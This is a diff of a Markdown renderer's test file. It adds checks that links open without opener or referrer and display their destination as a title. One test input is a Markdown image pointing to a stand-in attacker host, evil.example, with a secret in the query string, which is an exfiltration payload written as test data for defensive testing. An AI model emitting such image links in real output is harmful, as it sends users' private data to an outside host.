@@ -43,8 +43,9 @@ test.each([
   ['[x](tel:+358401234)', 'tel:+358401234'],
   ['https://a.example', 'https://a.example'],
   ['[x][1]\n\nbetween\n\n[1]: https://a.example', 'https://a.example'],
-])('%s links to %s without an opener or referrer (attack F2)', (text, address) => {
-  expect(render(text)).toContain(`<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">`)
+])('%s links to %s without an opener or referrer, and shows where it leads (attacks F2, F10)', (text, address) => {
+  const shown = text === address ? '' : ` title="${address}"`
+  expect(render(text)).toContain(`<a href="${address}" target="_blank" rel="noopener noreferrer nofollow"${shown}>`)
 })
 
 test.each(['![secret](https://evil.example/?q=secret)', '![secret][1]\n\n[1]: https://evil.example/?q=secret'])(
